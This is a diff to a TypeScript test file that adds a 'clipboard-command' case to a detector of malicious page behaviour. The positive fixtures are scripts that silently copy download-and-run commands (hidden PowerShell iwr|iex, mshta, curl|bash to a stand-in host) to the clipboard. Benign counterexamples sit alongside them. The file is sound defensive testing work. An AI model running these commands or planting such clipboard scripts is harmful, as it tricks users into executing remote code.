@@ -89,6 +89,21 @@ const CASES: readonly (readonly [BehaviourKind, readonly string[], readonly stri
     ],
     ['<style>.video:fullscreen { cursor: none }</style>', script('document.body.style.cursor = "wait"')],
   ],
+  [
+    'clipboard-command',
+    [
+      script('b.onclick = () => navigator.clipboard.writeText("powershell -w hidden iwr x | iex")'),
+      script('t.value = "mshta https://x.example/a"; document.execCommand("copy")'),
+      script("clipboard.write('curl -s https://x.example/a | bash')"),
+    ],
+    [
+      script('navigator.clipboard.writeText(address)'),
+      script('document.execCommand("copy")'),
+      '<pre>powershell -c a</pre>',
+      script('run("powershell")'),
+      script('navigator.clipboard.readText()'),
+    ],
+  ],
 ];
 
 describe.each(CASES)('%s', (kind, match, clear) => {
